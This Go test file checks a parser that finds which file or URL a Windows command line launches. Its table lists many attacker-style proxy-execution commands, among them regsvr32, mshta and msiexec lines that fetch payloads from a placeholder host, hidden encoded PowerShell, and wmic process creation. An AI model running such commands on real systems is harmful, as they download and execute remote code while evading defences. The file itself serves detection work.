package command

import "testing"

func TestHosted(t *testing.T) {
	for _, tt := range []struct{ line, want string }{
		{`rundll32 C:\x\e.dll,Go`, `C:\x\e.dll`},
		{`"C:\Windows\System32\rundll32.exe" "C:\a b\e.dll",#1`, `C:\a b\e.dll`},
		{`rundll32 shell32.dll,ShellExec_RunDLL C:\x\e.exe`, `C:\x\e.exe`},
		{`rundll32.exe shell32,ShellExec_RunDLLA "C:\a b\e.exe" -x`, `C:\a b\e.exe`},
		{`rundll32 shell32.dll,ShellExec_RunDLL`, `shell32.dll`},
		{`rundll32 C:\x\shell32.dll,Go C:\y`, `C:\x\shell32.dll`},
		{`rundll32 shell32.dll,Control_RunDLL C:\x\e.cpl,@0`, `C:\x\e.cpl`},
		{`rundll32 url.dll,OpenURL file:///C:/x/e.hta`, `C:\x\e.hta`},
		{`rundll32 advpack.dll,LaunchINFSection C:\x\e.inf,,1`, `C:\x\e.inf`},
		{`rundll32 javascript:"\..\mshtml,RunHTMLApplication ";x`, ``},
		{`svchost -k netsvcs`, ``},

		{`regsvr32 /s C:\x\e.dll`, `C:\x\e.dll`},
		{`regsvr32 /s /i C:\x\e.dll`, `C:\x\e.dll`},
		{`regsvr32 /s /n /u /i:http://198.51.100.1/a.sct scrobj.dll`, `http://198.51.100.1/a.sct`},
		{`regsvr32 /s /i:C:\x\e.sct C:\Windows\System32\scrobj.dll`, `C:\x\e.sct`},

		{`mshta http://198.51.100.1/a.hta`, `http://198.51.100.1/a.hta`},
		{`mshta "http://198.51.100.1/a.hta" x`, `http://198.51.100.1/a.hta`},
		{`mshta C:\a b\e.hta`, `C:\a b\e.hta`},

		{`msiexec /i C:\x\e.msi /qn`, `C:\x\e.msi`},
		{`msiexec /qn /iC:\x\e.msi`, `C:\x\e.msi`},
		{`msiexec /q /i http://198.51.100.1/e.msi`, `http://198.51.100.1/e.msi`},
		{`msiexec -package "C:\a b\e.msi"`, `C:\a b\e.msi`},
		{`msiexec /fa C:\x\e.msi`, `C:\x\e.msi`},
		{`msiexec /y C:\x\e.dll`, `C:\x\e.dll`},
		{`msiexec /z"C:\a b\e.dll"`, `C:\a b\e.dll`},
		{`msiexec /x C:\x\e.msi`, ``},

		{`powershell -nop -w hidden -f "C:\a b\e.ps1" arg`, `C:\a b\e.ps1`},
		{`powershell -c "& 'C:\a b\e.ps1'"`, `C:\a b\e.ps1`},
		{`powershell -command "&{C:\x\e.ps1}"`, `C:\x\e.ps1`},
		{`powershell -c "&('C:\x\e.exe')"`, `C:\x\e.exe`},
		{`powershell . C:\x\e.ps1`, `C:\x\e.ps1`},
		{`powershell -c "cd C:\x; .\e.exe"`, `C:\x\e.exe`},
		{`powershell -noexit -enco ` + encoded(`C:\x\e.exe`), `C:\x\e.exe`},
		{`pwsh C:\x\e.ps1`, `C:\x\e.ps1`},

		{`wscript //e:vbscript C:\x\e.txt`, `C:\x\e.txt`},
		{`cscript //nologo "C:\a b\e.js" /x`, `C:\a b\e.js`},
		{`"C:\Program Files\Java\bin\javaw.exe" -Xmx1g -jar "C:\a b\e.jar" x`, `C:\a b\e.jar`},
		{`python C:\x\e.py`, `C:\x\e.py`},
		{`pythonw.exe -u "C:\a b\e.py"`, `C:\a b\e.py`},
		{`python3.11 -W ignore C:\x\e.py`, `C:\x\e.py`},
		{`py -3 C:\x\e.py`, `C:\x\e.py`},
		{`python -m http.server`, ``},
		{`python -c "import os"`, ``},

		{`cmd /c start "" "C:\x\e.exe"`, `C:\x\e.exe`},
		{`cmd /c start "title" /b /wait C:\x\e.exe`, `C:\x\e.exe`},
		{`cmd /c start /d C:\x e.exe`, `C:\x\e.exe`},
		{`cmd.exe /c cd /d C:\x && e.exe`, `C:\x\e.exe`},
		{`cmd.exe /c cd /d C:\x && D:\e.exe`, `D:\e.exe`},
		{`cmd.exe /c cd /d C:\x && %TEMP%\e.exe`, `%TEMP%\e.exe`},
		{`cmd /c "start /min powershell -File C:\x\e.ps1"`, `C:\x\e.ps1`},
		{`cmd /c "C:\a b\e.exe"`, `C:\a b\e.exe`},
		{`cmd /d /s /c ""C:\a b\e.exe" x"`, `C:\a b\e.exe`},
		{`%COMSPEC% /q /c "C:\a b\e.exe" x`, `C:\a b\e.exe`},
		{`cmd /c ^C^:\x\e.exe`, `C:\x\e.exe`},
		{`cmd /v:on /c "set a=C:\x\e.exe&& !a!"`, ``},

		{`conhost.exe --headless cmd /c C:\x\e.exe`, `C:\x\e.exe`},
		{`conhost --headless --width 80 C:\x\e.exe`, `C:\x\e.exe`},
		{`conhost C:\x\e.exe`, `C:\x\e.exe`},
		{`conhost 0xffffffff -ForceV1`, ``},
		{`forfiles /p c:\w /m notepad.exe /c "cmd /c C:\x\e.exe"`, `C:\x\e.exe`},
		{`pcalua.exe -a "C:\a b\e.exe" -c x`, `C:\a b\e.exe`},
		{`explorer "C:\a b\e.exe"`, `C:\a b\e.exe`},
		{`explorer.exe C:\a b\e.exe`, `C:\a b\e.exe`},
		{`explorer.exe /root,"C:\x\e.exe"`, `C:\x\e.exe`},
		{`explorer.exe /select,C:\x\e.exe`, ``},
		{`forfiles /p C:\x /m e.exe /c @path`, `C:\x\e.exe`},
		{`forfiles /p C:\x /m e.exe /c "cmd /c @file"`, `C:\x\e.exe`},
		{`forfiles /c 0x22C:\x\e.exe0x22`, `C:\x\e.exe`},
		{`odbcconf /a {REGSVR C:\x\e.dll}`, `C:\x\e.dll`},
		{`odbcconf.exe -S /A {REGSVR "C:\a b\e.dll"}`, `C:\a b\e.dll`},
		{`control C:\x\e.cpl,,2`, `C:\x\e.cpl`},
		{`certoc.exe -LoadDLL C:\x\e.dll`, `C:\x\e.dll`},
		{`bitsadmin /SetNotifyCmdLine j "C:\x\e.exe" "NULL"`, `C:\x\e.exe`},
		{`presentationhost C:\x\e.xbap`, `C:\x\e.xbap`},
		{`infdefaultinstall C:\x\e.inf`, `C:\x\e.inf`},
		{`rundll32 /d C:\x\e.dll,Go`, `C:\x\e.dll`},
		{`rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 C:\x\e.inf`, `C:\x\e.inf`},
		{`regsvr32 -s -n -u -i:file:///C:/x/e.sct scrobj.dll`, `C:\x\e.sct`},
		{`regsvr32 /s /u/i:C:\x\e.sct scrobj`, `C:\x\e.sct`},
		{`mshta file:///C:/a%20b/e.hta`, `C:\a b\e.hta`},
		{`mshta file://localhost/c:/x/e.hta`, `c:\x\e.hta`},
		{`rundll32 url.dll,OpenURL "file://C:\x\e.hta"`, `C:\x\e.hta`},
		{`bash -c "/mnt/c/x/e.exe -q"`, `c:\x\e.exe`},
		{`wsl.exe -d Ubuntu --exec /mnt/c/x/e.exe`, `c:\x\e.exe`},
		{`wsl -e cmd.exe /c C:\x\e.exe`, `C:\x\e.exe`},
		{`cmd /c <nul C:\x\e.exe`, `C:\x\e.exe`},
		{`cmd /c >nul 2>&1 (C:\x\e.exe)`, `C:\x\e.exe`},
		{`cmd /c ,;C:\x\e.exe`, `C:\x\e.exe`},
		{`cmd /c start /affinity 1 /node 0 C:\x\e.exe`, `C:\x\e.exe`},
		{`cmd /c start "" /dC:\x e.exe`, `C:\x\e.exe`},
		{`powershell –e ` + encoded(`C:\x\e.exe`), `C:\x\e.exe`},
		{`powershell -ExecutionPolicy:Bypass -File:C:\x\e.ps1`, `C:\x\e.ps1`},
		{`pwsh -WorkingDirectory C:\x -File e.ps1`, `C:\x\e.ps1`},
		{`powershell "Start-Process powershell -ArgumentList '-File C:\x\e.ps1'"`, `C:\x\e.ps1`},
		{`powershell start cmd -arg '/c','C:\x\e.exe' -WindowStyle hidden`, `C:\x\e.exe`},
		{`wmic process call create "C:\x\e.exe"`, `C:\x\e.exe`},
	} {
		if got := Hosted(tt.line); got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.line, got, tt.want)
		}
	}
}

// Every function of rundll32, and every switch of msiexec, starts what follows it.
func TestHostForms(t *testing.T) {
	for _, e := range entries {
		section := ""
		if e.section {
			section = " DefaultInstall 128"
		}
		if got := Hosted("rundll32 " + e.library + ".dll," + e.function + "W" + section + ` C:\x\e.txt`); got != `C:\x\e.txt` {
			t.Errorf("%s,%s hosts %q", e.library, e.function, got)
		}
	}
	for _, s := range packageSwitches {
		for _, form := range []string{" ", ""} {
			if got := Hosted("msiexec /" + s.name + form + `C:\x\e.msi`); got != `C:\x\e.msi` {
				t.Errorf("/%s%s hosts %q", s.name, form, got)
			}
		}
	}
}
